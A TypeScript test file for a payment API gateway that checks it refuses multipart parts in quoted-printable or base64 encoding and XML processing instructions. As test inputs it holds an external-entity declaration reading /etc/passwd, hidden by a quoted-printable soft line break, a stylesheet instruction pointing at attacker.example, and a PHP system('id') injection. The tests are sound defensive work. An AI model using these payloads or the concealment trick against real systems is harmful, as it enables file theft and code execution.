/**
 * Bodies that mean one thing to the gateway's checks and another to the core: a multipart part in
 * a transfer encoding the core's MIME parser decodes (quoted-printable hid an external entity
 * declaration from the XML check), and XML processing instructions (`xml-stylesheet`) beside the
 * declaration. Both are refused before the core sees them.
 */
import { assertForwarded, assertRejected, policy, rig } from "../support/hardening.ts";
import { FORM_BOUNDARY, FORM_TYPE, periodicParts } from "../support/periodic_form.ts";
import { initiationHeaders, PAIN_001 } from "../support/requests.ts";
import type { LevelInput } from "../support/policies.ts";

const PRODUCTS: LevelInput = {
  path_params: { offered_products: ["pain.001-sepa-credit-transfers"] },
};
const PERIODIC = "/v1/periodic-payments/pain.001-sepa-credit-transfers";
const SINGLE = "/v1/payments/pain.001-sepa-credit-transfers";

/** A periodic form whose XML part carries a Content-Transfer-Encoding. */
function encodedForm(encoding: string, xml: string): string {
  const [, json] = periodicParts();
  return `--${FORM_BOUNDARY}\r\nContent-Disposition: form-data; name="xml_sct"\r\n` +
    `Content-Type: application/xml\r\nContent-Transfer-Encoding: ${encoding}\r\n\r\n${xml}\r\n` +
    `--${FORM_BOUNDARY}\r\nContent-Disposition: form-data; name="${json.name}"\r\n` +
    `Content-Type: application/json\r\n\r\n${json.text}\r\n--${FORM_BOUNDARY}--\r\n`;
}

/**
 * In quoted-printable "=\r\n" is a soft line break, removed when decoded: the check reads one
 * comment up to the last "-->", the core's MIME parser a comment that ends at once, then an external
 * entity declaration.
 */
const HIDDEN_DOCTYPE = PAIN_001.replace(
  "<Document",
  '<!-- a -=\r\n-> <!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]> -->\n<Document',
);

function post(body: string, contentType: string): RequestInit {
  return { method: "POST", headers: initiationHeaders({ "content-type": contentType }), body };
}

Deno.test("multipart: a part in a transfer encoding other than 7bit, 8bit or binary is refused", async () => {
  await using t = await rig(policy(PRODUCTS));
  for (const encoding of ["quoted-printable", "base64", "Quoted-Printable", "x-uuencode"]) {
    assertRejected(
      await t.call(PERIODIC, post(encodedForm(encoding, HIDDEN_DOCTYPE), FORM_TYPE)),
      { status: 400, code: "FORMAT_ERROR", path: "body", text: /Content-Transfer-Encoding/ },
      t.upstream,
    );
  }
  let forwarded = 0;
  for (const encoding of ["7bit", "8bit", "binary", "BINARY"]) {
    assertForwarded(
      await t.call(PERIODIC, post(encodedForm(encoding, PAIN_001), FORM_TYPE)),
      t.upstream,
      ++forwarded,
    );
  }
});

Deno.test("xml: a processing instruction other than the declaration is refused", async () => {
  await using t = await rig(policy(PRODUCTS));
  for (
    const pi of [
      '<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>',
      "<?php system('id'); ?>",
    ]
  ) {
    const before = PAIN_001.replace("<Document", `${pi}\n<Document`);
    const inside = PAIN_001.replace("<CstmrCdtTrfInitn>", `<CstmrCdtTrfInitn>${pi}`);
    for (const body of [before, inside]) {
      assertRejected(
        await t.call(SINGLE, post(body, "application/xml")),
        { status: 400, code: "FORMAT_ERROR", path: "body", text: /processing instruction/ },
        t.upstream,
      );
    }
  }
  assertForwarded(await t.call(SINGLE, post(PAIN_001, "application/xml")), t.upstream);
});
